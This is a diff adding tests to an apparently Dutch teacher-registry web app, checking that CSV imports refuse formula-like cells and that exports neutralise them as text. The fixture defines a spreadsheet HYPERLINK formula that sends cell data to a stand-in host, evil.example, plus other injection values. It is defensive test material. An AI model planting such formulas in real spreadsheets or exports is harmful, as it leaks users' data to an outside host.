@@ -162,3 +162,39 @@ def test_export_has_only_public_fields(app, client, code, tmp_path, runner):
     assert client.get("/beheer/docenten/export.xlsx").data[:2] == b"PK"
     result = runner.invoke(args=["registry", "export", str(tmp_path / "register.xlsx")])
     assert result.exit_code == 0 and (tmp_path / "register.xlsx").exists()
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+
+
+def test_names_that_start_like_a_formula_are_refused_row_by_row(plan):
+    data = ('first_name,last_name,email,genres,role\n'
+            '"' + EVIL.replace('"', '""') + '",Kok,eva@example.nl,ballet,\n'
+            'Finn,@SUM(A1),finn@example.nl,ballet,\n'
+            'Gijs,Bos,gijs@example.nl,jazz,+31 docent\n'
+            'Hana,Bos-Kok,hana@example.nl,jazz,\n').encode()
+    report = import_file(data, "docenten.csv", "teachers")
+    assert not report.written
+    assert [(p.row, p.column) for p in report.problems] == [(2, "first_name"), (3, "last_name"), (4, "role")]
+    assert "formule" in report.problems[0].message
+    assert b"formule" in report.as_csv()
+    cpd = import_file(b"email,title,provider,points,category,completed_on\n"
+                      b"x@example.nl,-Workshop,Codarts,3,didactics,2024-01-01\n", "cpd.csv", "cpd")
+    assert ("title" in [p.column for p in cpd.problems]) and not cpd.written
+
+
+def test_the_export_writes_a_formula_name_as_text(app, client, code):
+    from openpyxl import load_workbook
+
+    teacher = factories.make_teacher(first_name="Anna")
+    factories.complete(teacher)
+    teacher.first_name = EVIL  # written before names were checked, or by a future path that forgets to check
+    db.session.commit()
+    log_in(client, make_user(roles=(Role.admin,)))
+    csv = client.get("/beheer/docenten/export.csv").get_data(as_text=True)
+    line = next(row for row in csv.splitlines() if teacher.registration_number in row)
+    assert ",\"'=HYPERLINK(" in line
+    sheet = load_workbook(io.BytesIO(client.get("/beheer/docenten/export.xlsx").data)).active
+    names = [cell for cell in sheet["B"][1:]]
+    assert [cell.data_type for cell in names] == ["s"]
+    assert names[0].value.startswith("'=HYPERLINK(")
